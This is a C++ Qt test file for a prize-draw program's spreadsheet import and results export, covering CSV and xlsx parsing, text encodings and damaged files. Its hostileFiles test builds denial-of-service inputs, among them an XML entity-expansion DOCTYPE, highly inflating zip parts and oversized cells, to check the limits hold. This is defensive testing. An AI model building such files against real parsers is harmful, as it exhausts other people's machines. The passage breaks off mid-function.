// Spreadsheets in and out: CSV and xlsx read as tables, the import preview writing the entrant list,
// the results exported as xlsx and CSV and read back (by this program and by openpyxl).
#include "allprize.h"
#include "csvreader.h"
#include "drive.h"
#include "entrantpool.h"
#include "hostilesheets.h"
#include "operationerror.h"
#include "resultsexport.h"
#include "resultsexportdialog.h"
#include "setting.h"
#include "sheettable.h"
#include "sheettask.h"
#include "spreadsheetimport.h"
#include "testenv.h"
#include "textcodec.h"
#include "unit1.h"
#include "winnerlists.h"
#include "xlsxreader.h"

#include <QAction>
#include <QCheckBox>
#include <QComboBox>
#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QLabel>
#include <QListWidget>
#include <QPlainTextEdit>
#include <QProcess>
#include <QPushButton>
#include <QScreen>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTableWidget>
#include <QTest>

namespace {
// Debian's python3 (with python3-openpyxl) first, else whatever python3 the path finds.
QString python() {
    if (QFile::exists(QStringLiteral("/usr/bin/python3")))
        return QStringLiteral("/usr/bin/python3");
    return QStandardPaths::findExecutable(QStringLiteral("python3"));
}

// Runs a Python script with arguments; its standard output, or nothing when it failed.
std::optional<QString> runPython(const QString& script, const QStringList& args = {},
                                 const QByteArray& input = {}) {
    QProcess process;
    process.start(python(), QStringList{QStringLiteral("-c"), script} + args);
    process.write(input);
    process.closeWriteChannel();
    if (!process.waitForFinished(60000) || process.exitStatus() != QProcess::NormalExit ||
        process.exitCode() != 0) {
        qWarning("%s", process.readAllStandardError().constData());
        return std::nullopt;
    }
    return QString::fromUtf8(process.readAllStandardOutput());
}

bool haveOpenpyxl() {
    return !python().isEmpty() && runPython(QStringLiteral("import openpyxl")).has_value();
}

// A workbook written part by part with Python's zipfile, for what other programs write: inline and
// rich strings with phonetic runs, escapes, zero-padded and date formats, cells without references,
// absolute part names. The sheet rows come from standard input.
const char* kHandMadeXlsx = R"(
import sys, zipfile
path, rows = sys.argv[1], sys.stdin.buffer.read().decode('utf-8')
z = zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED)
z.writestr('[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
z.writestr('_rels/.rels', '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="book/main.xml"/></Relationships>')
z.writestr('book/main.xml', '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:rel="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Staff" sheetId="2" rel:id="rId9"/><sheet name="Other" sheetId="1" rel:id="rId8"/></sheets></workbook>')
z.writestr('book/_rels/main.xml.rels', '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="sheets/other.xml"/><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="/book/sheets/staff.xml"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="strings.xml"/><Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>')
z.writestr('book/strings.xml', '<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>姓名</t></si><si><r><t>工</t></r><r><rPr><b/></rPr><t>号</t></r><rPh sb="0" eb="1"><t>こう</t></rPh></si><si><t>张_x000D_三</t></si></sst>')
z.writestr('book/styles.xml', '<?xml version="1.0"?><styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><numFmts><numFmt numFmtId="164" formatCode="00000"/><numFmt numFmtId="165" formatCode="yyyy/m/d"/></numFmts><cellStyleXfs><xf numFmtId="164"/></cellStyleXfs><cellXfs><xf numFmtId="0"/><xf numFmtId="164"/><xf numFmtId="165"/><xf numFmtId="2"/></cellXfs></styleSheet>')
z.writestr('book/sheets/other.xml', '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>wrong sheet</t></is></c></row></sheetData></worksheet>')
z.writestr('book/sheets/staff.xml', '<?xml version="1.0"?><x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData>' + rows + '</x:sheetData></x:worksheet>')
z.close()
)";

const QString kStaffRows = QStringLiteral(
    "<x:row r=\"1\"><x:c r=\"A1\" t=\"s\"><x:v>0</x:v></x:c><x:c r=\"B1\" t=\"s\"><x:v>1</x:v></x:c></x:row>"
    "<x:row r=\"3\"><x:c r=\"A3\" t=\"s\"><x:v>2</x:v></x:c><x:c r=\"B3\" s=\"1\"><x:v>123</x:v></x:c>"
    "<x:c r=\"D3\" s=\"2\"><x:v>45678</x:v></x:c></x:row>"
    "<x:row r=\"4\"><x:c r=\"A4\" t=\"s\"><x:v>7</x:v></x:c><x:c r=\"B4\" t=\"s\"><x:v>7</x:v></x:c></x:row>"
    "<x:row r=\"5\"><x:c t=\"inlineStr\"><x:is><x:r><x:t>李</x:t></x:r><x:r><x:t xml:space=\"preserve\">四 "
    "</x:t></x:r></x:is></x:c><x:c><x:v>1.5</x:v></x:c><x:c s=\"3\"><x:v>2</x:v></x:c>"
    "<x:c t=\"b\"><x:v>1</x:v></x:c></x:row>"
    "<x:row r=\"6\"><x:c r=\"A6\" t=\"str\"><x:f>A1</x:f><x:v>王五</x:v></x:c>"
    "<x:c r=\"B6\"><x:v>13812345678</x:v></x:c><x:c r=\"C6\"><x:v>0.30000000000000004</x:v></x:c>"
    "<x:c r=\"D6\"><x:v>1.5E+20</x:v></x:c></x:row>");

QString writeHandMade(TestEnv& env, const QString& name, const QString& rows) {
    const QString path = env.path(name);
    if (!runPython(QString::fromUtf8(kHandMadeXlsx), {path}, rows.toUtf8()))
        return QString();
    return path;
}

// The message of the error a read throws, or an empty text when it reads.
QString readError(const QString& path, const SheetLimits& limits = SheetLimits()) {
    try {
        SheetImport::readFile(path, limits);
    } catch (const OperationError& error) {
        return error.message();
    }
    return QString();
}

// An event of two draws, a supplementary draw and a cancellation.
void fillEvent(WinnerLists& lists) {
    lists.setPrizeNames({QStringLiteral("一等奖"), QStringLiteral("二等奖")});
    const QDateTime first(QDate(2025, 1, 18), QTime(20, 31, 5));
    lists.appendAll(WinnerLists::headerLine(2, QStringLiteral("一等奖"), first));
    lists.appendAll(WinnerLists::winnerLine(QStringLiteral("一等奖"), QStringLiteral("张三 00123 销售部")));
    lists.appendAll(
        WinnerLists::winnerLine(QStringLiteral("一等奖"), QStringLiteral("Li, \"Si\"\t00456\t研发部")));
    lists.appendAll(WinnerLists::headerLine(1, QStringLiteral("二等奖"), first.addSecs(600)));
    lists.appendAll(
        WinnerLists::cancelLine(WinnerLists::winnerLine(QStringLiteral("二等奖"), QStringLiteral("王五"))));
    lists.appendAll(
        WinnerLists::supplementaryLine(QStringLiteral("二等奖"), QStringLiteral("赵六  13812345678")));
}
} // namespace

class TestSpreadsheet : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void csvCells();
    void xlsxCells();
    void badFiles();
    void hostileFiles();
    void rowsTheImportLeavesOut();
    void importPreview();
    void importOffTheGuiThread();
    void exportRoundTrip();
    void csvExportRunsNoFormula();
    void exportFailureKeepsFile();
};

void TestSpreadsheet::csvCells() {
    // Quoted commas, doubled quotes, a break inside quotes, an empty line and a blank record, CR LF and
    // a lone LF, no final break.
    const QString text =
        QStringLiteral("姓名,工号,部门\r\n\"Li, Si\",00123,\"研发\"\"二\"\"部\"\r\n\r\n , ,\n"
                       "\"王\n五\",123456,1.5");
    SheetTable table = CsvReader::parse(text, CsvReader::Kind::Csv);
    QCOMPARE(table.rowCount(), 3);
    QCOMPARE(table.rows().at(1), (QStringList{QStringLiteral("Li, Si"), QStringLiteral("00123"),
                                              QStringLiteral("研发\"二\"部")}));
    QCOMPARE(table.cell(2, 0), QStringLiteral("王\n五"));
    QVERIFY(SheetImport::looksLikeHeader(table));
    QCOMPARE(SheetImport::entrantLines(table, {2, 0}, true),
             (QStringList{QStringLiteral("研发\"二\"部 Li, Si"), QStringLiteral("1.5 王 五")}));
    QCOMPARE(SheetImport::entrantLines(table, {0}, false).constFirst(), QStringLiteral("姓名"));

    // UTF-8 with and without its mark, GBK, and UTF-16 (Excel's "Unicode text") read alike.
    const QString plain = QStringLiteral("张三,001\r\n李四,002\r\n");
    for (const QByteArray& bytes :
         {QByteArray("\xEF\xBB\xBF") + plain.toUtf8(), plain.toUtf8(), TextCodec::toGbk(plain),
          QByteArray("\xFF\xFE") +
              QByteArray(reinterpret_cast<const char*>(plain.utf16()), plain.size() * 2)}) {
        const SheetTable t = CsvReader::parse(CsvReader::decode(bytes), CsvReader::Kind::Csv);
        QCOMPARE(t.rowCount(), 2);
        QCOMPARE(t.cell(0, 0), QStringLiteral("张三"));
        QCOMPARE(t.cell(1, 1), QStringLiteral("002"));
    }
    // Numbers under texts make a header without known titles; all-number rows do not.
    QVERIFY(SheetImport::looksLikeHeader(CsvReader::parse(u"Who,Code\nA,1\nB,2\n", CsvReader::Kind::Csv)));
    QVERIFY(!SheetImport::looksLikeHeader(CsvReader::parse(u"张三,1\n李四,2\n", CsvReader::Kind::Csv)));
    // A semicolon file splits on semicolons; a text file without tabs keeps each line whole.
    QCOMPARE(CsvReader::parse(u"a;b,c;d\n", CsvReader::Kind::Csv).rows().constFirst().size(), 3);
    QCOMPARE(CsvReader::parse(u"\"a\",b\n", CsvReader::Kind::Text).cell(0, 0), QStringLiteral("\"a\",b"));
    QCOMPARE(CsvReader::parse(u"a\tb\n", CsvReader::Kind::Text).cell(0, 1), QStringLiteral("b"));
}

void TestSpreadsheet::xlsxCells() {
    TestEnv env;
    if (python().isEmpty())
        QSKIP("python3 is needed to write the test workbooks");
    const QString path = writeHandMade(env, QStringLiteral("staff.xlsx"), kStaffRows);
    QVERIFY(!path.isEmpty());
    const SheetTable table = SheetImport::readFile(path);
    // The first sheet in the workbook's order, not the first part; the empty row 2 and the row of
    // out-of-range string indexes are skipped.
    QCOMPARE(table.rowCount(), 4);
    QCOMPARE(table.rows().at(0), (QStringList{QStringLiteral("姓名"), QStringLiteral("工号")}));
    QCOMPARE(table.rows().at(1), (QStringList{QStringLiteral("张\r三"), QStringLiteral("00123"), QString(),
                                              QStringLiteral("2025-01-21")}));
    QCOMPARE(table.rows().at(2), (QStringList{QStringLiteral("李四 "), QStringLiteral("1.5"),
                                              QStringLiteral("2.00"), QStringLiteral("TRUE")}));
    QCOMPARE(table.rows().at(3), (QStringList{QStringLiteral("王五"), QStringLiteral("13812345678"),
                                              QStringLiteral("0.3"), QStringLiteral("1.5E+20")}));
    QCOMPARE(SheetImport::entrantLines(table, {0, 1}, true).constFirst(), QStringLiteral("张 三 00123"));
    QCOMPARE(XlsxReader::generalNumber(u"123456"), QStringLiteral("123456"));

    if (!haveOpenpyxl())
        QSKIP("python3-openpyxl is not installed");
    // A workbook as openpyxl writes it: shared strings, numbers, a text 00123, an empty row between.
    const QString made = env.path(QStringLiteral("openpyxl.xlsx"));
    QVERIFY(runPython(QStringLiteral("import sys, openpyxl\n"
                                     "wb = openpyxl.Workbook(); ws = wb.active\n"
                                     "ws.append(['姓名', '工号', '部门'])\n"
                                     "ws.append(['张三', '00123', '销售部'])\n"
                                     "ws.append([])\n"
                                     "ws.append(['李四', 123456, 1.5])\n"
                                     "wb.create_sheet('Second').append(['x'])\n"
                                     "wb.save(sys.argv[1])\n"),
                      {made}));
    const SheetTable other = SheetImport::readFile(made);
    QCOMPARE(other.rowCount(), 3);
    QVERIFY(SheetImport::looksLikeHeader(other));
    QCOMPARE(SheetImport::entrantLines(other, SheetImport::defaultColumns(other, true), true),
             (QStringList{QStringLiteral("张三 00123 销售部"), QStringLiteral("李四 123456 1.5")}));
}

void TestSpreadsheet::badFiles() {
    TestEnv env;
    const auto write = [&](const QString& name, const QByteArray& bytes) {
        env.writeFile(name, bytes);
        return env.path(name);
    };
    QVERIFY(readError(write("text.xlsx", "姓名,工号\n")).contains(QStringLiteral("不是 Excel 工作簿")));
    const QByteArray ole("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8);
    const QByteArray encryptedName("E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0", 32);
    QVERIFY(readError(write("locked.xlsx", ole + QByteArray(504, '\0') + encryptedName))
                .contains(QStringLiteral("已加密")));
    QVERIFY(readError(write("old.xls", ole + QByteArray(600, '\0'))).contains(QStringLiteral("旧版 Excel")));
    QVERIFY(readError(write("zip.xlsx", QByteArray("PK\x03\x04", 4) + QByteArray(100, 'x')))
                .contains(QStringLiteral("已损坏")));
    QVERIFY(readError(env.path("absent.csv")).startsWith(QStringLiteral("Cannot open file")));

    // More rows than an import takes: refused as a whole, from a CSV and from a sheet.
    QByteArray many;
    for (int i = 0; i <= SheetTable::kMaxRows; ++i)
        many += QByteArray::number(i) + "\n";
    QVERIFY(readError(write("many.csv", many)).contains(QString::number(SheetTable::kMaxRows)));

    if (python().isEmpty())
        QSKIP("python3 is needed to write the test workbooks");
    QString rows;
    for (int i = 0; i <= SheetTable::kMaxRows; ++i)
        rows += QStringLiteral("<x:row><x:c><x:v>%1</x:v></x:c></x:row>").arg(i);
    QVERIFY(readError(writeHandMade(env, QStringLiteral("many.xlsx"), rows))
                .contains(QString::number(SheetTable::kMaxRows)));

    // Damage: a cut-off package, a flipped byte inside the sheet's data, a sheet part that is missing.
    const QString good = writeHandMade(env, QStringLiteral("good.xlsx"), kStaffRows);
    QFile file(good);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray bytes = file.readAll();
    file.close();
    QVERIFY(readError(write("cut.xlsx", bytes.first(bytes.size() / 2))).contains(QStringLiteral("已损坏")));
    QByteArray flipped = bytes;
    const qsizetype sheetData = bytes.indexOf("book/sheets/staff.xml") + 40;
    flipped[sheetData] = static_cast<char>(flipped[sheetData] ^ 0x5A);
    QVERIFY(readError(write("flipped.xlsx", flipped)).contains(QStringLiteral("已损坏")));
    // A package stored without compression, one digit changed: only the checksum tells.
    QVERIFY(runPython(QStringLiteral("import sys, zipfile\n"
                                     "src = zipfile.ZipFile(sys.argv[1])\n"
                                     "out = zipfile.ZipFile(sys.argv[2], 'w', zipfile.ZIP_STORED)\n"
                                     "for i in src.infolist(): out.writestr(i.filename, src.read(i))\n"
                                     "out.close()\n"),
                      {good, env.path("stored.xlsx")}));
    QByteArray stored = env.readFile("stored.xlsx");
    QVERIFY(stored.contains("13812345678"));
    QVERIFY(readError(env.path("stored.xlsx")).isEmpty());
    stored.replace("13812345678", "13812345679");
    QVERIFY(readError(write("stored.xlsx", stored)).contains(QStringLiteral("校验失败")));
    // Parts encrypted with a zip password (the flag of every entry of the central directory).
    QByteArray locked = bytes;
    for (qsizetype at = locked.indexOf("PK\x01\x02"); at >= 0; at = locked.indexOf("PK\x01\x02", at + 4))
        locked[at + 8] = static_cast<char>(locked[at + 8] | 1);
    QVERIFY(readError(write("zipcrypt.xlsx", locked)).contains(QStringLiteral("已加密")));
    // The part's name changed in the package, so the relationship names a part that is not there.
    QByteArray noSheet = bytes;
    noSheet.replace("book/sheets/staff.xml", "book/sheets/staff.xmX");
    QVERIFY(readError(write("nosheet.xlsx", noSheet)).contains(QStringLiteral("找不到工作表")));

    // Through the settings dialog: the error box, and the entrant list and the pool stay as they were.
    env.writeGbk("抽奖名单.txt", QStringLiteral("旧\r\n"));
    TForm1 form;
    Tfsetting dialog(form);
    dialog.show();
    env.dialogs.files.enqueue(env.path("cut.xlsx"));
    QTest::mouseClick(child<QPushButton>(dialog, "btn_insheet"), Qt::LeftButton);
    QTRY_COMPARE(env.dialogs.boxes.constLast().icon, Dialogs::Icon::Critical);
    QVERIFY(!dialog.findChild<SpreadsheetImportDialog*>());
    QCOMPARE(env.readFile("抽奖名单.txt"), gbk(QStringLiteral("旧\r\n")));
    QCOMPARE(form.model().pool.count(), 1);
}

void TestSpreadsheet::hostileFiles() {
    // Files made to take the memory or the time of the machine that runs the show: each is refused
    // with a message naming the limit, at the limit. The big ones are made here in a moment.
    TestEnv env;
    using namespace HostileSheets;
    const auto book = [&](const char* name, const QList<Part>& parts, const QByteArray& rels = {}) {
        const QString path = env.path(QString::fromLatin1(name));
        return writePackage(path, workbook(rels) + parts) ? path : QString();
    };
    const QByteArray cell = "<c><v>1</v></c>";
    const QByteArray row256 = "<row>" + cell.repeated(256) + "</row>";
    const QByteArray sharedCells = "<row>" + QByteArray("<c t=\"s\"><v>0</v></c>").repeated(256) + "</row>";
    const QByteArray doctype = "<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY e \"" + QByteArray(4000, 'x') +
                               "\">]><worksheet><sheetData><row><c t=\"inlineStr\"><is><t>";
    const QString longLine = env.path("line.csv");
    QVERIFY(writeRepeated(longLine, {}, "x", 1'000'000));
    const QString huge = env.path("huge.csv");
    QFile sparse(huge);
    QVERIFY(sparse.open(QIODevice::WriteOnly) && sparse.resize(200'000'000));
    sparse.close();
    // The limits of a table's size under lower limits (reaching 4 million cells takes a second or two;
    // the program's own limits on the issue's files are measured by measure_import).
    SheetLimits small;
    small.maxCells = 100'000;
    small.maxChars = 1'000'000;
    SheetLimits few;
    few.maxElements = 1000;
    const QString wideCsv = env.path("wide.csv");
    QVERIFY(writeRepeated(wideCsv, {}, QByteArray("1,").repeated(255) + "1\n", 2000));
    const QList<std::tuple<QString, SheetLimits, QString>> refused{
        // 3 GiB of blanks between rows (3 MB), a cell of 10^9 characters (1 MB).
        {book("blanks.xlsx", {sheet(cell, QByteArray(1024, ' '), 3 << 20)}), {}, QStringLiteral("1024 KB")},
        {book("cell.xlsx",
              {sheet("<row><c t=\"inlineStr\"><is><t>", "x", 1'000'000'000, "</t></is></c></row>")}),
         {},
         QStringLiteral("32767")},
        // A part inflating a thousand times (256 MiB of empty cells).
        {book("cells.xlsx", {sheet("<row>", "<c/>", 64 << 20, "</row>")}), {}, QStringLiteral("100 倍")},
        // A shared string of 100,000 characters; one of 32,000 in 20 rows of 256 cells.
        {book("string.xlsx", {sheet(sharedCells), sharedStrings("<si><t>", "x", 100'000, "</t></si>")}),
         {},
         QStringLiteral("32767")},
        {book("shared.xlsx",
              {sheet({}, sharedCells, 20), sharedStrings("<si><t>", "x", 32'000, "</t></si>")}),
         small, QStringLiteral("100 万个字")},
        // An entity of 4,000 characters referenced 5 million times.
        {book("entity.xlsx", {{QStringLiteral("xl/worksheets/sheet1.xml"), doctype, "&e;", 5'000'000,
                               "</t></is></c></row></sheetData></worksheet>"}}),
         {},
         QStringLiteral("DOCTYPE")},
        // A sheet that is also the shared strings.
        {book("twice.xlsx", {sheet(cell)},
              "<Relationship Id=\"rId1\" Type=\"x/worksheet\" Target=\"worksheets/sheet1.xml\"/>"
              "<Relationship Id=\"rId2\" Type=\"x/sharedStrings\" Target=\"worksheets/sheet1.xml\"/>"),
         {},
         QStringLiteral("重复引用")},
        // 51.2 million cells (200,000 rows of 256), 512,000 as CSV; a CSV of 200 MB; a line of a million
        // characters; elements without end (each costs time, empty or not).
        {book("table.xlsx", {sheet({}, row256, 200'000)}), small, QStringLiteral("10 万个单元格")},
        {wideCsv, small, QStringLiteral("10 万个单元格")},
        {huge, {}, QStringLiteral("128 MB")},
        {longLine, {}, QStringLiteral("32767")},
        {book("elements.xlsx", {sheet("<row>", "<c/>", 2000, "</row>")}), few,
         QStringLiteral("1000 个 XML 元素")},
    };
    for (const auto& [path, limits, says] : refused) {
        QVERIFY(!path.isEmpty());
        const QString error = readError(path, limits);
        QVERIFY2(error.contains(says), qPrintable(path + u' ' + error));
    }

    // A thousand relationships to one part read it once.
    QByteArray rels = "<Relationship Id=\"rId1\" Type=\"x/worksheet\" Target=\"worksheets/sheet1.xml\"/>";
    for (int i = 0; i < 1000; ++i)
        rels += "<Relationship Id=\"s" + QByteArray::number(i) +
                "\" Type=\"x/sharedStrings\" Target=\"sharedStrings.xml\"/>";
    const QList<Part> parts{sheet(sharedCells),
                            sharedStrings({}, "<si><t>" + QByteArray(1000, 'x') + "</t></si>", 1000)};
    ReadControl control;
    const SheetTable table = XlsxReader::read(book("rels.xlsx", parts, rels), SheetLimits(), &control);
    QCOMPARE(table.rowCount(), 1);
    QCOMPARE(table.cell(0, 255).size(), 1000);
    qint64 partBytes = 0;
    for (const Part& part : workbook(rels) + parts)
        partBytes += part.head.size() + part.repeated.size() * part.times + part.tail.size();
    QVERIFY(control.inflated() <= partBytes);

    // A line of 10 million commas: fields right of the last column are not even collected.
    QVERIFY(writeRepeated(longLine, "a,", ",", 10'000'000, "b"));
    const SheetTable commas = SheetImport::readFile(longLine);
    QCOMPARE(commas.rows(), QList<QStringList>{{QStringLiteral("a")}});
    QVERIFY(commas.columnsCut());
}

void TestSpreadsheet::rowsTheImportLeavesOut() {
    TestEnv env;
    // Formulas never computed (no <v>), one computed, an error value, a row with nothing in the names'
    // columns.
    const auto text = [](const char* ref, const char* value) {
        return QByteArray("<c r=\"") + ref + "\" t=\"inlineStr\"><is><t>" + value + "</t></is></c>";
    };
    QByteArray rows = "<row r=\"1\">" + text("A1", "姓名") + text("B1", "部门") + "</row>" +
                      "<row r=\"2\"><c r=\"A2\" t=\"str\"><f>\"王\"&amp;\"五\"</f><v>王五</v></c>" +
                      text("B2", "销售") + "</row>";
    for (const char* row : {"3", "4", "5"})
        rows += QByteArray("<row r=\"") + row + "\"><c r=\"A" + row + "\"><f>B" + row + "&amp;\"x\"</f></c>" +
                text(QByteArray("B").append(row).constData(), "研发") + "</row>";
    rows += "<row r=\"6\"><c r=\"A6\" t=\"e\"><f>1/0</f><v>#DIV/0!</v></c>" + text("B6", "财务") + "</row>" +
            "<row r=\"8\">" + text("C8", "备注") + "</row>";
    const QString path = env.path("formulas.xlsx");
    QVERIFY(HostileSheets::writePackage(path, HostileSheets::workbook() + QList{HostileSheets::sheet(rows)}));

    const auto table = std::make_shared<const SheetTable>(SheetImport::readFile(path));
    QVERIFY(SheetImport::looksLikeHeader(*table));
    QCOMPARE(SheetImport::defaultColumns(*table, true), (QList<int>{0, 1, 2}));
    QCOMPARE(SheetImport::entrantLines(*table, {0, 1}, true), QStringList(QStringLiteral("王五 销售")));
    const SheetImport::LinesSummary summary = SheetImport::summarize(*table, {0, 1}, true);
    QCOMPARE(summary.count, 1);
    QCOMPARE(summary.withoutValueCells, (QStringList{"A3", "A4", "A5"}));
    QCOMPARE(summary.errorValueCells, QStringList("A6"));
    QCOMPARE(summary.blank, 1);

    SpreadsheetImportDialog preview(table, true, {0, 1}, path);
    QCOMPARE(child<QLabel>(preview, "entrantCount")->text(), QStringLiteral("共 1 位抽奖人员"));
    auto* note = child<QLabel>(preview, "skipNote");
    QVERIFY(note->isVisibleTo(&preview));
    QCOMPARE(note->text(),
             QStringLiteral("将跳过 5 行，不导入：3 行的公式没有保存计算结果（A3、A4、A5），请在 Excel "
                            "中打开表格、保存后再导入；1 行是错误值（A6）；1 行所选的列为空（没有姓名）。"));
}

void TestSpreadsheet::importPreview() {
    TestEnv env;
    env.writeGbk("抽奖名单.txt", QStringLiteral("旧\r\n"));
    env.writeFile("staff.csv",
                  QStringLiteral("\xFEFF姓名,工号,部门,手机\r\n张三,00123,销售部,13800000001\r\n"
                                 "\"Li, Si\",00456,,13800000002\r\n,,,\r\n𠮷田,00789,研发部,\r\n")
                      .toUtf8());
    TForm1 form;
    Tfsetting dialog(form);
    dialog.show();
    env.dialogs.files.enqueue(env.path("staff.csv"));
    QTest::mouseClick(child<QPushButton>(dialog, "btn_insheet"), Qt::LeftButton);
    QCOMPARE(env.dialogs.boxes.constLast().kind, QStringLiteral("openFile"));
    QVERIFY(env.dialogs.boxes.constLast().text.contains(QStringLiteral("*.xlsx")));
    QTRY_VERIFY(dialog.findChild<SpreadsheetImportDialog*>());
    auto* preview = dialog.findChild<SpreadsheetImportDialog*>();
    QTRY_VERIFY(preview->isVisible());
    QVERIFY(child<QCheckBox>(*preview, "headerRow")->isChecked());
    QCOMPARE(child<QLabel>(*preview, "entrantCount")->text(), QStringLiteral("共 3 位抽奖人员"));
    QVERIFY(child<QLabel>(*preview, "gbkNote")->isVisibleTo(preview));

    // Phone number out, department before the name: the lines follow the list's order of columns.
    auto* columns = child<QListWidget>(*preview, "columnList");
    QCOMPARE(columns->count(), 4);
    // The phone column is suggested partly hidden on the stage.
    QVERIFY(columns->item(3)->text().endsWith(QStringLiteral("［部分隐藏］")));
    columns->item(3)->setCheckState(Qt::Unchecked);
    columns->setCurrentRow(2);
    QTest::mouseClick(child<QPushButton>(*preview, "columnUp"), Qt::LeftButton);
    QTest::mouseClick(child<QPushButton>(*preview, "columnUp"), Qt::LeftButton);
    QCOMPARE(preview->columns(), (QList<int>{2, 0, 1}));
    QCOMPARE(child<QLabel>(*preview, "sampleLine")->text(), QStringLiteral("第一位：销售部 张三 00123"));
    // The name, now second, hidden from the hall: the choice goes with the column to prize.db.
    columns->setCurrentRow(1);
    QTest::keyClick(child<QComboBox>(*preview, "hallChoice"), Qt::Key_Down);
    QTest::keyClick(child<QComboBox>(*preview, "hallChoice"), Qt::Key_Down);
    QCOMPARE(child<QLabel>(*preview, "hallSample")->text(), QStringLiteral("现场显示：销售部 00123"));
    QTest::mouseClick(child<QPushButton>(*preview, "importButton"), Qt::LeftButton);
    QTRY_COMPARE(env.dialogs.texts().value(env.dialogs.texts().size() - 1), QStringLiteral("资料导入成功！"));
    QVERIFY(env.readFile(QStringLiteral("prize.db")).contains("[HallView]\r\nFields=,2\r\n"));
    QCOMPARE(form.event().lineDisplay().hallText(QStringLiteral("销售部 张三 00123")),
             QStringLiteral("销售部 00123"));

    const QString expected = QStringLiteral("销售部 张三 00123\r\nLi, Si 00456\r\n研发部 𠮷田 00789\r\n");
    QCOMPARE(env.readFile("抽奖名单.txt"), TextCodec::toGbk(expected));
    QCOMPARE(TextCodec::fromGbk(env.readFile("抽奖名单.txt")), expected);
    QCOMPARE(form.model().pool.count(), 3);
    QVERIFY(
        child<QPlainTextEdit>(dialog, "Memo1")->toPlainText().contains(QStringLiteral("研发部 𠮷田 00789")));
    // The export heads the winners' columns as the list's columns were headed.
    const QStringList titles{QStringLiteral("部门"), QStringLiteral("姓名"), QStringLiteral("工号")};
    QCOMPARE(SheetImport::keptColumnTitles(), titles);
    ResultsExport::Row row{
        QString(),
        QStringLiteral("一等奖"),
        QString(),
        {QStringLiteral("销售部"), QStringLiteral("张三"), QStringLiteral("00123"), QStringLiteral("多余")},
        ResultsExport::kWon};
    const QStringList heading = ResultsExport::table({row}, SheetImport::keptColumnTitles()).first();
    const QStringList headed = titles + QStringList{QStringLiteral("列4"), QStringLiteral("状态")};
    QCOMPARE(heading.mid(3), headed);

    // Cancelling the preview writes nothing.
    env.dialogs.clear();
    env.dialogs.files.enqueue(env.path("staff.csv"));
    QTest::mouseClick(child<QPushButton>(dialog, "btn_insheet"), Qt::LeftButton);
    QTRY_VERIFY(dialog.findChild<SpreadsheetImportDialog*>() &&
                dialog.findChild<SpreadsheetImportDialog*>()->isVisible());
    QTest::mouseClick(child<QPushButton>(*dialog.findChild<SpreadsheetImportDialog*>(), "cancelButton"),
                      Qt::LeftButton);
    QCOMPARE(env.readFile("抽奖名单.txt"), TextCodec::toGbk(expected));
    QVERIFY(env.dialogs.texts().isEmpty());
}

void TestSpreadsheet::importOffTheGuiThread() {
    TestEnv env;
    // Whatever the work throws ends in the operator's message naming the file, never in an abort.
    const QString path = env.path("list.csv");
    const QList<std::pair<SheetTask::Work, QString>> outcomes{
        {[](ReadControl&) { throw std::bad_alloc(); }, QStringLiteral("内存不足")},
        {[](ReadControl&) { throw std::runtime_error("broken"); }, QStringLiteral("broken")},
        {[](ReadControl&) { throw 42; }, QStringLiteral("未知错误")},
        {[](ReadControl&) {}, QString()},
    };
    for (const auto& [work, says] : outcomes) {
        SheetTask task(path, work);
        QSignalSpy finished(&task, &SheetTask::finished);
        task.start();
        QTRY_COMPARE(finished.size(), 1);
        QCOMPARE(task.failure().isEmpty(), says.isEmpty());
        QVERIFY(task.failure().contains(says) && task.failure().contains(says.isEmpty() ? QString() : path));
    }
    // Both readers look at the control before they read anything.
    env.writeFile("list.csv", "张三\n");
    QVERIFY(HostileSheets::writePackage(env.path("list.xlsx"),
                                        HostileSheets::workbook() + QList{HostileSheets::sheet("<row/>")}));
    ReadControl cancelled;
    cancelled.cancel();
    for (const char* name : {"list.csv", "list.xlsx"})
        QVERIFY_THROWS_EXCEPTION(ReadCancelled,
                                 SheetImport::readFile(env.path(name), SheetLimits(), &cancelled));

    // Through the settings dialog, cancelled before the read has ended: no preview, no box, the list
    // as it was.
    env.writeGbk("抽奖名单.txt", QStringLiteral("旧\r\n"));
    TForm1 form;
    Tfsetting dialog(form);
    dialog.show();
    env.dialogs.clear();
    env.dialogs.files.enqueue(path);
    QTest::mouseClick(child<QPushButton>(dialog, "btn_insheet"), Qt::LeftButton);
    child<QPushButton>(*child<QDialog>(dialog, "importProgress"), "progressCancel")->click();
    QTRY_VERIFY(!dialog.findChild<SheetTask*>());
    QCOMPARE(env.dialogs.boxes.size(), 1);
    QVERIFY(!dialog.findChild<SpreadsheetImportDialog*>());
    QCOMPARE(env.readFile("抽奖名单.txt"), gbk(QStringLiteral("旧\r\n")));

    // 300 columns of long texts: the preview shows 256 of them cut short, and fits the screen.
    QByteArray wide = "姓名";
    for (int c = 1; c < 300; ++c)
